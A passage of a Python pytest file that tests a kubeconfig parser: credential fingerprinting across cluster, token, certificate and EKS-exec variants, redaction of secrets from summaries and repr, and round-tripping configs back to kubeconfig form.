        _access(cluster={"server": "https://other.example.net:6443"}),
        _access(cluster={"certificate-authority-data": b64(pki().server_cert_pem)}),
        _access(cluster={"certificate-authority-data": DROP}),
        _access(user={"token": TOKEN + "x"}),
        _access(user=cert_user()),
    ]
    prints = {fingerprint(a) for a in variants}
    assert base not in prints and len(prints) == len(variants)


def test_fingerprint_of_an_eks_user_is_its_cluster_and_region():
    eks = parse_kubeconfig(dump(kubeconfig(user=eks_user())), allow_eks_exec=True)
    other = parse_kubeconfig(
        dump(
            kubeconfig(user=eks_user(["eks", "get-token", "--cluster-name", "prod", "--region", "us-east-1"]))
        ),
        allow_eks_exec=True,
    )
    assert fingerprint(eks) != fingerprint(other)


def test_redacted_summary_never_holds_a_secret():
    access = parse_kubeconfig(dump(kubeconfig(user={"token": TOKEN, **cert_user()})))
    summary = redacted_summary(access)
    text = json.dumps(summary)  # JSON-safe, so it can go to a log line as it is
    for secret in (TOKEN, b64(pki().client_key_pem)[:40], "PRIVATE KEY", "BEGIN CERTIFICATE"):
        assert secret not in text
    assert summary["server"] == SERVER and summary["context"] == CONTEXT
    assert summary["cluster"] == CLUSTER and summary["user"] == USER
    assert summary["ca_present"] is True and summary["insecure_skip_tls_verify"] is False
    assert summary["fingerprint"] == fingerprint(access)
    assert summary["client_certificate_expires"] is not None


@pytest.mark.parametrize(
    ("user", "auth", "eks"),
    [
        ({"token": TOKEN}, "token", False),
        (cert_user(), "client certificate", False),
        (eks_user(), "EKS token", True),
    ],
)
def test_redacted_summary_names_the_kind_of_auth(user, auth, eks):
    access = parse_kubeconfig(dump(kubeconfig(user=user)), allow_eks_exec=eks)
    assert redacted_summary(access)["auth"] == auth


def test_repr_of_the_access_hides_the_credentials():
    access = parse_kubeconfig(dump(kubeconfig(user={"token": TOKEN, **cert_user()})))
    assert TOKEN not in repr(access) and "PRIVATE KEY" not in repr(access)


@pytest.mark.parametrize(
    "config",
    [
        kubeconfig(),
        kubeconfig(user=cert_user(), cluster={"tls-server-name": "kubernetes"}),
        kubeconfig(user=eks_user()),
        kubeconfig(cluster={"insecure-skip-tls-verify": True, "certificate-authority-data": DROP}),
    ],
    ids=["token", "cert", "eks", "insecure"],
)
def test_to_kubeconfig_round_trips(config):
    access = parse_kubeconfig(dump(config), allow_insecure=True, allow_eks_exec=True)
    stored = to_kubeconfig(access)
    assert parse_kubeconfig(dump(stored), allow_insecure=True, allow_eks_exec=True) == access
    assert len(stored["clusters"]) == len(stored["users"]) == len(stored["contexts"]) == 1
